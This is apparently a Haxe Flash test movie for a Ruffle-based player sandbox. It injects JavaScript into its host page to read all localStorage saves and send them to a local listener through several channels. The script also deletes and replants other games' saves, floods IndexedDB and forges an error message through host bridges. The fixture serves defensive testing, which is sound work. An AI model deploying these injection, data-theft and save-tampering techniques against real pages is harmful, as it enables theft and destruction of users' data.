import flash.Lib;
import flash.display.Shape;
import flash.external.ExternalInterface;
import flash.net.SharedObject;
import flash.net.URLLoader;
import flash.net.URLRequest;

// A movie that tries to take over its page. Played as "<anything>-<port>.swf",
// it sends what it can to http://127.0.0.1:<port>: its own loads under /own/,
// and, from any script it manages to run in the page, the saves it could read
// under /script/. The script also deletes every other game's save, plants a
// copy of each under planted.swf, tries to fill the browser's storage and
// forges the page's "Ruffle could not be loaded" message.
//
// Stage: blue. Top left: green while ExternalInterface is unavailable, red
// when it is there. Top right: yellow when the shared object at "/" held a
// mark left by another movie.
class Hostile {
  static function script(base:String):String {
    return "(function(){var s='" + base + "/script';"
      + "var send=function(p,d){"
      + "try{fetch(s+p+'?d='+encodeURIComponent(d))}catch(e){}"
      + "try{fetch(s+p+'/post',{method:'POST',body:d})}catch(e){}"
      + "try{fetch(s+p+'/nocors',{mode:'no-cors'})}catch(e){}"
      + "try{new Image().src=s+p+'/img'}catch(e){}"
      + "try{navigator.sendBeacon(s+p+'/beacon',d)}catch(e){}"
      + "try{var x=new XMLHttpRequest();x.open('GET',s+p+'/xhr');x.send()}catch(e){}"
      + "try{new Worker(URL.createObjectURL(new Blob([\"fetch('\"+s+p+\"/worker')\"])))}catch(e){}"
      + "};"
      + "send('/alive','');"
      + "var all=[];"
      + "try{for(var i=0;i<localStorage.length;i++){var k=localStorage.key(i);"
      + "all.push([k,localStorage.getItem(k)])}}catch(e){}"
      + "send('/saves',JSON.stringify(all));"
      + "for(var j=0;j<all.length;j++){var p=all[j][0].split('/');"
      + "if(p.length>2&&p[1]&&p[1].indexOf('hostile')<0){"
      + "try{localStorage.removeItem(all[j][0])}catch(e){}"
      + "p[1]='planted.swf';try{localStorage.setItem(p.join('/'),all[j][1])}catch(e){}}}"
      + "try{quilletReport('noruffle')}catch(e){}"
      + "try{new QWebChannel(qt.webChannelTransport,function(c){for(var n in c.objects)"
      + "for(var m in c.objects[n])try{c.objects[n][m]('noruffle')}catch(e){}})}catch(e){}"
      + "try{indexedDB.open('hoard').onupgradeneeded=function(e){"
      + "e.target.result.createObjectStore('x').put(new Array(1<<20).join('x'),1)}}catch(e){}"
      + "})()";
  }

  static function square(colour:Int, x:Float) {
    var shape = new Shape();
    shape.graphics.beginFill(colour);
    shape.graphics.drawRect(x, 0, 100, 100);
    shape.graphics.endFill();
    Lib.current.addChild(shape);
  }

  static function main() {
    var stage = new Shape();
    stage.graphics.beginFill(0x0000C0);
    stage.graphics.drawRect(0, 0, 400, 300);
    stage.graphics.endFill();
    Lib.current.addChild(stage);

    var url = Lib.current.loaderInfo.url;
    var name = url.substr(url.lastIndexOf("/") + 1);
    var port = name.substring(name.lastIndexOf("-") + 1, name.lastIndexOf("."));
    var base = "http://127.0.0.1:" + port;
    var code = script(base);

    square(ExternalInterface.available ? 0xFF0000 : 0x00FF00, 0);
    try {
      ExternalInterface.call("eval", code);
    } catch (e:Dynamic) {}
    try {
      ExternalInterface.call("quilletReport", "noruffle");
    } catch (e:Dynamic) {}
    for (target in ["_blank", "_self", "_top", ""]) {
      try {
        Lib.getURL(new URLRequest("javascript:" + code), target);
      } catch (e:Dynamic) {}
    }

    // The shared object every movie of the site would share in Flash.
    var common = SharedObject.getLocal("common", "/");
    var seen:String = common.data.mark == null ? "none" : common.data.mark;
    if (seen != "none")
      square(0xFFFF00, 300);
    common.data.mark = "from-" + name;
    try {
      common.flush();
    } catch (e:Dynamic) {}

    new URLLoader().load(new URLRequest(base + "/own/" + name + "?seen=" + seen));
  }
}
